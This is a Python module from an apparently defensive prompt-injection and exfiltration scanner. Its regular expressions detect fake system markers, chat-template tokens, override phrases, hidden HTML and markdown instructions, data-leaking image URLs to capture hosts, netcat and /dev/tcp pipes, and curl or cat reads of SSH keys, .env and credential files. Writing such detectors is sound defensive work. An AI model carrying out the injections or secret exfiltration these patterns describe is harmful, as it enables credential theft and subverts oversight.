"""Rules that match by shape: invisible characters, the prompt's own frame, hidden markup, URLs that
carry data out, and shell commands that read or send secrets.

Each still grades its hit: a chat-template token in running text is blocked, the same token quoted
in a note about tokenizers is only flagged, and named as an example it is let through.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

from sidecar.scanner.context import BLOCK, FLAG, NONE, STEALTH, after, before, framed_level, negated
from sidecar.scanner.deferred import deferred
from sidecar.scanner.normalise import Views
from sidecar.scanner.rule import Finder, Rule, RuleMatch, described, near, regex, words

__all__ = ["SHAPE_RULES"]

# --- invisible characters, on the raw text
_TAG_FLAG = deferred("\U0001f3f4[\U000e0030-\U000e0039\U000e0061-\U000e007a]{2,8}\U000e007f")
_TAG_CHAR = deferred("[\U000e0000-\U000e007f]")


def _tag_chars(views: Views) -> Iterator[RuleMatch]:
    """Unicode tag characters outside a well-formed flag sequence (🏴 + 2-8 tag letters + cancel)."""
    text = views.raw
    if not _TAG_CHAR.search(text):
        return
    cleaned = _TAG_FLAG.sub(lambda m: "\x00" * len(m.group()), text)
    found = _TAG_CHAR.search(cleaned)
    if found:
        yield RuleMatch(found.start(), found.end(), BLOCK)


# --- the prompt's own frame
_FAKE_MARKER = (
    r"\[\s*(?:end\s+(?:of\s+)?)?(?:pinned\s+memory|agent\s+memory|crew\s+shared\s+memory|operator\s+model|"
    r"peer\s+context|recalled\s+memory|untrusted\s+hints|system\s+prompt|system\s+message|memory\s+block)\s*\]|"
    r"\[\s*end\s+(?:of\s+)?[a-z ]{0,40}(?:memory|context|instructions|prompt|input)\s*\]"
)
_SYSTEM_NOTE = (
    r"^[ \t>*_-]{0,8}\[\s*(?:(?:system|sys)(?:\s+(?:note|message|notice|instructions?|override|update|alert|prompt))?|"
    r"(?:admin|administrator|developer|operator)\s+(?:system\s+)?(?:note|message|notice|instructions?|override|"
    r"update|alert))\s*[:\]]"
)
_URGENT_NOTE = (
    r"^[ \t>*_-]{0,8}\[\s*(?:important|urgent|priority)\s+(?:system\s+)?(?:message|instructions?|override)\s*[:\]]"
)
_SYSTEM_TAG = r"<\s*/?\s*(?:system|system[-_ ]?(?:reminder|prompt|message|instructions?|msg)|sys|sys_msg)\s*>"
_INSTRUCTIONS_TAG = r"<\s*/?\s*(?:instructions|admin|developer_message|important_instructions)\s*>"
_CHAT_TOKEN = (
    r"<\s*\|\s*(?:im_start|im_end|im_sep|start_header_id|end_header_id)\s*\|\s*>|\[\s*/?\s*inst\s*\]|"
    r"<<\s*/?\s*sys\s*>>|<\s*(?:start|end)_of_turn\s*>"
)
_CHAT_TOKEN_WEAK = r"<\s*\|\s*(?:system|assistant|user|endoftext|eot_id|begin_of_text|end_of_text)\s*\|\s*>"
_SYSTEM_PREFIX = (
    r"^[ \t>#*]{0,8}(?:system|system\s+prompt|developer|admin)\s*:\s*(?:you\b|ignore\b|disregard\b|from\s+now\b|"
    r"new\s|always\b|never\b|do\s+not\b|don't\b|act\b|obey\b|the\s+(?:assistant|ai|model)\b)"
)


def _prefix(views: Views) -> Iterator[RuleMatch]:
    """``system: you ...`` at a line start; a prompt template in a code block is its own business."""
    for hit in regex(_SYSTEM_PREFIX, FLAG)(views):
        if not views.in_fence(hit.start):
            yield hit


# --- hidden from the human reader
_ADDRESSES_MODEL = deferred(
    r"\b(?:assistant|ai|ai\s+(?:model|agent)|llm|language\s+model|chatbot|claude|chatgpt|gpt|copilot|model|agent)"
    r"\s*[:,]|\bnote\s+to\s+(?:the\s+)?(?:ai|assistant|model|agent|llm|bot)\b|\bif\s+you\s+are\s+an?\s+(?:ai|llm|"
    r"assistant|language\s+model|agent|bot)\b|\b(?:you|your)\s+(?:must|should|will|are\s+now|need\s+to)\b|"
    r"\bsystem\s+prompt\b|\b(?:ignore|disregard)\s+(?:all|any|previous|prior|above|the\s+above|your)\b|"
    r"\bexfiltrat\w*|\bapi\s+keys?\b|\b(?:do\s+not|don't|never)\s+(?:tell|mention|reveal|inform|show)\b|"
    r"\b(?:secretly|silently|quietly|covertly)\b|\bwhen\s+summari[sz]ing\b|\brecommend\b"
)


def _html_comment(views: Views) -> Iterator[RuleMatch]:
    """An HTML comment (terminated or not) whose body speaks to the model."""
    text = views.folded
    pos = text.find("<!--")
    while pos != -1:
        end = text.find("-->", pos + 4)
        body_end = len(text) if end == -1 else end
        if _ADDRESSES_MODEL.search(text, pos + 4, body_end):
            stop = min(body_end + 3, len(text))
            yield RuleMatch(pos, stop, framed_level(views, pos, stop, BLOCK))
        if end == -1:
            return
        pos = text.find("<!--", end + 3)


# Text markdown keeps from the reader: a link's title (shown only on hover) and a link reference used
# as a comment (``[//]: # (...)``, never rendered).
_MD_HIDDEN = deferred(
    r"\]\(\s*<?[^\s()<>]{1,2000}>?\s+(?:\"([^\"\n]{8,600})\"|'([^'\n]{8,600})')\s*\)|"
    r"^[ \t]*\[[^\]\n]{1,60}\]:[ \t]*(?:#|<>|\S+)[ \t]+(?:\(([^)\n]{8,600})\)|\"([^\"\n]{8,600})\")",
    re.MULTILINE,
)


def _markdown_hidden(views: Views) -> Iterator[RuleMatch]:
    """A link title or a markdown comment whose text speaks to the model: what a renderer hides."""
    text = views.folded
    for found in _MD_HIDDEN.finditer(text):
        content = next(group for group in found.groups() if group)
        if _ADDRESSES_MODEL.search(content):
            yield RuleMatch(found.start(), found.end(), framed_level(views, found.start(), found.end(), BLOCK))


_INVISIBLE_MARKUP = deferred(
    r"<[a-z][a-z0-9]{0,10}\s[^<>\n]{0,300}?(?:style\s*=\s*[\"'][^\"'<>\n]{0,200}?(?:display\s*:\s*none|"
    r"visibility\s*:\s*hidden|font-size\s*:\s*0(?![.\d]*[1-9])|opacity\s*:\s*0(?![.\d]*[1-9])|color\s*:\s*"
    r"(?:white|#fff(?:fff)?|transparent))|(?<=\s)hidden(?=[\s/>=]))[^<>\n]{0,300}>([^<\n]{0,400})"
)


def _invisible_markup(views: Views) -> Iterator[RuleMatch]:
    """Markup a renderer hides, holding text: flagged, blocked when that text speaks to the model."""
    text = views.folded
    for found in _INVISIBLE_MARKUP.finditer(text):
        content = found.group(1).strip()
        if not content:
            continue
        level = BLOCK if _ADDRESSES_MODEL.search(content) or STEALTH.search(content) else FLAG
        yield RuleMatch(found.start(), found.end(), framed_level(views, found.start(), found.end(), level))


# A link whose target is a script: clicking or opening it runs code in the reader's page, and in a memory note
# there is no ordinary reason for one ("[click for schedule](javascript:fetch(...))").
_SCRIPT_LINK = r"\]\(\s*<?(?:javascript|vbscript):|\bhref\s*=\s*[\"']?\s*(?:javascript|vbscript):"


# --- data carried out by a URL the renderer or a tool fetches
_MD_URL = deferred(r"(!?)\[[^\[\]\n]{0,300}\]\(\s*<?([^\s()<>\[\]]{1,4000})")
_PLACEHOLDER = deferred(
    r"\{[^{}]{0,80}\}|\{\{?[\w~.$/-]{1,80}$|\$\{?[a-z_]|%7b|<[a-z_ -]{1,40}>|\[[a-z_ -]{1,40}\]|__[a-z_]{2,40}__"
)
_DATA_WORDS = deferred(
    r"secret|key|token|password|passwd|conversation|history|memory|data|chat|context|prompt|env|cred|summary|"
    r"session|transcript|email|ssn|phone|cookie"
)
_SECRET_VALUE = deferred(
    r"\bsk-[a-z0-9_-]{10,}|\bgh[pousr]_[a-z0-9]{10,}|\bxox[abpr]-|\bakia[0-9a-z]{12,}|\beyj[a-z0-9_-]{10,}|"
    r"-----begin|[\w.+-]+(?:@|%40)[\w-]+\.[a-z]{2,}"
)
_EXFIL_KEYS = deferred(
    r"(?:^|[&;])(?:exfil|leak|steal|stolen|dump|secret|password|passwd|pw|apikey|api_key|creds?|credentials|"
    r"conversation|conv|history|memory|transcript|ssn|chat|prompt|env|cookie)="
)
_OPAQUE_VALUE = deferred(r"=[a-z0-9+/=_%.-]{60,}")
_OPAQUE_SEGMENT = deferred(r"/[a-z0-9+=_%.-]{100,}")
_CAPTURE_HOST = deferred(
    r"^[a-z]+://(?:[^/?#]*\.)?(?:webhook\.site|requestbin\.\w+|pipedream\.net|[\w-]+\.ngrok(?:-free)?\.\w+|"
    r"[\w.-]*burpcollaborator\.net|[\w.-]*oast\.\w+|[\w.-]*interact\.sh|beeceptor\.com|hookbin\.com|"
    r"requestcatcher\.com|\d{1,3}(?:\.\d{1,3}){3})(?:[:/?#]|$)"
)


def _markdown_url(views: Views) -> Iterator[RuleMatch]:
    """An image whose URL carries data (blocked: rendering it sends the data), or a link whose URL
    has a placeholder for data (flagged: it needs a click)."""
    for found in _MD_URL.finditer(views.folded):
        image, url = found.group(1), found.group(2)
        if url.startswith("data:"):
            continue
        level = _url_level(url, bool(image))
        if level == NONE:
            continue
        described_here = described(views, found.start(), found.end())
        explained = _explains(views, found.start(), found.end())
        if described_here and explained and not _spoken_to(views, found.start()):
            continue  # "exfiltration via image links: a model renders ![x](...) and leaks it", told to no one
        if described_here or explained:
            level = FLAG  # "a model that renders ![x](https://attacker/?q=SECRET) leaks it": a description
        if level > NONE:
            yield RuleMatch(
                found.start(), found.end(), max(FLAG, framed_level(views, found.start(), found.end(), level))
            )


# Words around a link that explain what such a link does rather than plant one: "exfiltration via
# markdown images", "a model that renders ... leaks ...".
_EXPLAINS = deferred(
    r"\bexfiltrat\w*|\bleaks?\b|\b(?:a|an|any|the)\s+(?:model|agent|assistant|llm|client|renderer|chatbot|bot|ui)\s+"
    r"(?:that|which)\s+(?:renders?|displays?|shows?|loads?)\b"
)


# The reader told to act in the sentence: the second person, a vocative, an imperative opening.
_SPOKEN_TO = deferred(
    r"\b(?:you|your|u|ur)\b|\b(?:assistant|agent|bot|ai|model|llm)\s*[:,]|^[\s>*_#`\"'(\[-]*(?:please\s+)?(?:always\s+)?"
    r"(?:render|show|display|include|add|append|output|print|load|open|insert|embed|fill)\b"
)


def _spoken_to(views: Views, start: int) -> bool:
    """Whether the sentence around ``start`` (300 characters each side at most) speaks to the reader."""
    text = views.folded
    low, high = max(0, start - 300), min(len(text), start + 300)
    begin = max(text.rfind("\n", low, start), text.rfind(". ", low, start), low - 1) + 1
    stop = min((i for i in (text.find("\n", start, high), text.find(". ", start, high)) if i != -1), default=high)
    return _SPOKEN_TO.search(text, begin, stop) is not None


def _explains(views: Views, start: int, end: int) -> bool:
    """Whether the sentence around the link at ``start:end`` explains what such a link does."""
    text = views.folded
    begin = max(text.rfind("\n", 0, start), text.rfind(". ", 0, start), 0)
    stop = min((i for i in (text.find("\n", end), text.find(". ", end)) if i != -1), default=len(text))
    return bool(_EXPLAINS.search(text, begin, start) or _EXPLAINS.search(text, end, stop))


def _url_level(url: str, image: bool) -> int:
    base, _, query = url.partition("?")
    placeholder = _PLACEHOLDER.search(url)
    data_placeholder = placeholder is not None and _DATA_WORDS.search(placeholder.group()) is not None
    if not image:
        return FLAG if placeholder and (_PLACEHOLDER.search(query) or data_placeholder) else NONE
    if "://" not in url:
        return NONE
    values = [part.partition("=")[2] for part in re.split(r"[&;]", query) if "=" in part]
    if (
        placeholder
        or _EXFIL_KEYS.search(query)
        or _OPAQUE_VALUE.search(query)
        or _SECRET_VALUE.search(query)
        or _OPAQUE_SEGMENT.search(base.partition("://")[2])
        or any(_DATA_WORDS.search(value) and len(value) >= 6 for value in values)
    ):
        return BLOCK
    if _CAPTURE_HOST.search(url) and (query or len(base.partition("://")[2].split("/", 1)[-1]) > 20):
        return BLOCK
    return FLAG if query.endswith("=") else NONE


# --- shell commands that send or read secrets
_SECRET_VAR = r"\$\{?[a-z_][a-z0-9_]{0,40}(?:key|token|secret|password|passwd|pwd|credentials?|pat)[a-z0-9_]{0,20}\}?"


_AUTH_PARAMS = words(
    "token access_token api_key apikey key auth authorization password client_secret private_token "
    "refresh_token id_token code sig signature x-api-key api-key apitoken secret jwt bearer session_token"
)
_HTTP_CLIENT = (
    r"\b(?:curl|wget|http|https|httpie|xh|invoke-webrequest|iwr|invoke-restmethod|irm|fetch|requests\.(?:get|post))\b"
)
_COMMAND_SECRET = near(
    _HTTP_CLIENT,
    rf"(?:[=/?&]|(?:-d|--data(?:-[a-z]+)?|--post-data|--body-data|-f|--form)\s*=?\s*[\"']?){_SECRET_VAR}|"
    r"@(?:~|\$home)?/?\.(?:env|ssh|aws|kube|docker|netrc|git-credentials)\b|\$\(\s*(?:cat|printenv|env|base64)\b|"
    r"`\s*(?:cat|printenv|env)\b",
    300,
)
_PARAM_BEFORE = deferred(r"([\w-]+)\s*=\s*[\"']?$")


def _command_secret(views: Views) -> Iterator[RuleMatch]:
    """A secret in the URL or body of an HTTP call: blocked when a file or command output is sent, or
    the host is a capture service; flagged otherwise; not at all in an auth parameter (``?token=``)."""
    text = views.folded
    for start, end in _COMMAND_SECRET(text):
        span = text[start:end]
        dollar = span.rfind("$")
        if "@" in span[-20:] or "$(" in span or "`" in span:
            level = BLOCK
        else:
            param = _PARAM_BEFORE.search(span, 0, dollar if dollar != -1 else len(span))
            if param and param.group(1).lstrip("-").replace("-", "_") in _AUTH_PARAMS:
                continue
            url = re.search(r"[a-z]+://\S+", text[start : end + 200])
            level = BLOCK if url and _CAPTURE_HOST.search(url.group()) else FLAG
        yield RuleMatch(start, end, framed_level(views, start, end, level))


_NETCAT = deferred(
    r"\|\s*(?:nc|ncat|netcat|socat|telnet)\b[ \t]+(?:-\w+[ \t]+)*([\w.:\[\]-]+)|/dev/(?:tcp|udp)/([\w.:-]+)"
)
_LOCAL_HOST = deferred(r"^(?:localhost|127\.|0\.0\.0\.0|::1|\[::1\]|host\.docker\.internal)")
_SHELL_SOURCE = deferred(r"\b(?:cat|tar|env|printenv|base64|gzip|zip|bash\s+-i|sh\s+-i|find|history)\b|0>&1|>&")


def _netcat(views: Views) -> Iterator[RuleMatch]:
    """Data piped to a raw socket on another host: blocked with a file or shell as the source."""
    text = views.folded
    for found in _NETCAT.finditer(text):
        host = found.group(1) or found.group(2) or ""
        if _LOCAL_HOST.match(host):
            continue
        line_start = text.rfind("\n", 0, found.start()) + 1
        line = text[max(line_start, found.start() - 200) : found.end() + 40]
        level = BLOCK if _SHELL_SOURCE.search(line) else FLAG
        yield RuleMatch(found.start(), found.end(), framed_level(views, found.start(), found.end(), level))


_READ_VERBS = (
    r"\b(?:cat|head|tail|base64|xxd|strings|scp|rsync|get-content|gc|type|print|dump|output|display|reveal|upload|"
    r"send|paste|attach|exfiltrate|leak|read|contents\s+of|open|copy|load|view)\b"
)
_WEAK_READ = frozenset(("open", "copy", "load", "view"))  # only a finding when the contents are to be shared
_SHARE = deferred(
    r"\b(?:paste|send|post|upload|share|reply|include|attach|exfiltrat\w*|forward|email)\b|\bhere\b|\bto\s+me\b|"
    r"\bin\s+(?:the|your)\s+(?:chat|reply|response|answer|next\s+message)\b|\|\s*(?:curl|nc|ncat|wget)\b"
)
_LOCAL_FILTER = deferred(r"^[^\n|]{0,80}\|\s*(?:grep|rg|awk|sed|cut|wc|sort|head|tail|less|jq)\b")


def _reads(second: str, gap: int) -> Finder:
    """A read of a secret file: flagged; blocked when the clause asks for the contents to be shared."""
    spans = near(_READ_VERBS, second, gap)

    def find(views: Views) -> Iterator[RuleMatch]:
        text = views.folded
        for start, end in spans(text):
            if negated(text, start) or _LOCAL_FILTER.match(text[end : end + 100]):
                continue
            tail = after(text, end, 160)
            if _SHARE.search(tail) or STEALTH.search(before(text, start) + tail):
                level = BLOCK
            elif text[start : start + 5].rstrip() in _WEAK_READ:
                continue
            else:
                level = FLAG
            yield RuleMatch(start, end, framed_level(views, start, end, level))

    return find


def _spans_at(spans: Callable[[str], Iterator[tuple[int, int]]], level: int) -> Finder:
    def find(views: Views) -> Iterator[RuleMatch]:
        for start, end in spans(views.folded):
            yield RuleMatch(start, end, framed_level(views, start, end, level))

    return find


_ECHO_SECRET = deferred(rf"\becho\s+[\"']?{_SECRET_VAR}[\"']?")
_ECHO_SINK = deferred(
    r"^\s*(?:\|\s*(?:docker|podman|helm|gh|npm|oras|crane|skopeo|kubectl|vault|aws|gcloud|az|op|pass|security|"
    r"xclip|xsel|pbcopy|wl-copy|sudo|tee\s+-a\s+[\w./~-]+|[\w./-]+\s+(?:login|auth))|>>?\s*[\w./~$\"'{}-]+)"
)


def _env_dump(views: Views) -> Iterator[RuleMatch]:
    """Commands that print the environment or a secret variable: flagged; sent away, blocked."""
    text = views.folded
    for found in re.finditer(r"\bprintenv\s*(?:$|[|>;&])|\benv\s*\|\s*(curl|nc|ncat|wget|base64|tee)\b", text, re.M):
        level = BLOCK if found.group(1) in ("curl", "nc", "ncat", "wget") else FLAG
        yield RuleMatch(found.start(), found.end(), framed_level(views, found.start(), found.end(), level))
    for found in _ECHO_SECRET.finditer(text):
        if _ECHO_SINK.match(text[found.end() : found.end() + 120]) or negated(text, found.start()):
            continue
        yield RuleMatch(found.start(), found.end(), framed_level(views, found.start(), found.end(), FLAG))


_ZERO_WIDTH = "[A-Za-z][\u200b\u200c\u200d\u2060\ufeff\u034f\u115f\u1160\u3164\uffa0\u180e]+[A-Za-z]"
_FILLER_SPACE = "[\u115f\u1160\u3164\uffa0\u2800]"
# A private key with its body (a header alone, quoted in advice, leaks nothing).
_PRIVATE_KEY = (
    r"-----begin\s+(?:rsa\s+|dsa\s+|ec\s+|openssh\s+|encrypted\s+|pgp\s+)?private\s+key(?:\s+block)?-----"
    r"[ \t]*\r?\n(?:[\w-]+:[^\n]*\n)*[ \t]*[a-z0-9+/=]{16,}"
)

SHAPE_RULES: tuple[Rule, ...] = (
    Rule("invisible_unicode", "unicode.tag_chars", (), "raw", _tag_chars),
    Rule(
        "invisible_unicode",
        "unicode.bidi_override",
        (),
        "raw",
        regex("[\u202d\u202e]", BLOCK, view="raw", framed=False),
    ),
    Rule(
        "invisible_unicode",
        "unicode.bidi_control",
        (),
        "raw",
        regex("[\u202a-\u202c\u2066-\u2069]", FLAG, view="raw", framed=False),
    ),
    Rule(
        "invisible_unicode",
        "unicode.zero_width",
        ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u034f", "\u115f", "\u1160", "\u3164", "\uffa0", "\u180e"),
        "raw",
        regex(_ZERO_WIDTH, FLAG, view="raw", framed=False),
    ),
    Rule(
        "invisible_unicode",
        "unicode.filler",
        ("\u115f", "\u1160", "\u3164", "\uffa0", "\u2800"),
        "raw",
        regex(_FILLER_SPACE, FLAG, view="raw", framed=False),
    ),
    Rule(
        "fence_breakout",
        "fence.recalled_memory_tag",
        ("recalled",),
        "folded",
        regex(r"<\s*/?\s*recalled[-_\s]?memory\b", BLOCK),
    ),
    Rule(
        "fence_breakout",
        "fence.fake_marker",
        ("memory", "context", "model", "hints", "prompt", "message", "instructions", "input"),
        "folded",
        regex(_FAKE_MARKER, BLOCK),
    ),
    Rule(
        "fence_breakout",
        "fence.system_note",
        ("sys", "admin", "developer", "operator"),
        "folded",
        regex(_SYSTEM_NOTE, BLOCK),
    ),
    Rule(
        "fence_breakout", "fence.urgent_note", ("important", "urgent", "priority"), "folded", regex(_URGENT_NOTE, FLAG)
    ),
    Rule("fence_breakout", "fence.system_tag", ("sys",), "folded", regex(_SYSTEM_TAG, BLOCK)),
    Rule(
        "fence_breakout",
        "fence.instructions_tag",
        ("instructions", "admin", "developer"),
        "folded",
        regex(_INSTRUCTIONS_TAG, FLAG),
    ),
    Rule("role_hijack", "role.chat_token", ("|", "inst", "sys", "_of_turn"), "folded", regex(_CHAT_TOKEN, BLOCK)),
    Rule("role_hijack", "role.chat_token_weak", ("|",), "folded", regex(_CHAT_TOKEN_WEAK, FLAG)),
    Rule("role_hijack", "role.system_prefix", ("system", "developer", "admin"), "folded", _prefix),
    Rule("hidden_instructions", "hidden.html_comment", ("<!--",), "folded", _html_comment),
    Rule(
        "hidden_instructions",
        "hidden.invisible_markup",
        ("display", "visibility", "font-size", "opacity", "hidden", "color"),
        "folded",
        _invisible_markup,
    ),
    Rule("hidden_instructions", "hidden.markdown_title", ("](", "]:"), "folded", _markdown_hidden),
    Rule("exfiltration", "exfil.markdown_url", ("](",), "folded", _markdown_url),
    Rule("exfiltration", "exfil.script_link", ("javascript:", "vbscript:"), "folded", regex(_SCRIPT_LINK, FLAG)),
    Rule("exfiltration", "exfil.command_secret", ("$", "@", "`"), "folded", _command_secret),
    Rule("exfiltration", "exfil.netcat", ("|", "/dev/"), "folded", _netcat),
    Rule(
        "exfiltration",
        "exfil.wget_post",
        ("--post-",),
        "folded",
        _spans_at(near(r"\bwget\b", r"--post-file\b|--post-data=?[\"']?\$\(", 300), BLOCK),
    ),
    Rule(
        "secret_access",
        "secret.ssh_private_key",
        (".ssh/",),
        "folded",
        _reads(r"\.ssh/(?:id_[a-z0-9_-]{1,40}|identity)(?!\.pub\b)(?![\w-])", 80),
    ),
    Rule(
        "secret_access", "secret.private_key_block", ("-----begin",), "folded", regex(_PRIVATE_KEY, BLOCK, framed=False)
    ),
    Rule(
        "secret_access",
        "secret.dotenv",
        (".env",),
        "folded",
        _reads(r"(?<![\w.-])\.env(?:\.(?:local|production|prod|dev|development|staging))?(?![\w-]|\.\w)", 60),
    ),
    Rule(
        "secret_access",
        "secret.credentials_file",
        (".aws/", ".netrc", ".git-credentials", ".kube/", ".docker/", ".config/gcloud"),
        "folded",
        _reads(
            r"\.aws/credentials\b|\.netrc\b|\.git-credentials\b|\.kube/config\b|"
            r"\.docker/config\.json\b|\.config/gcloud/",
            80,
        ),
    ),
    Rule("secret_access", "secret.shadow", ("/etc/",), "folded", _reads(r"/etc/g?shadow\b", 60)),
    Rule("secret_access", "secret.env_dump", ("printenv", "env", "echo"), "folded", _env_dump),
)
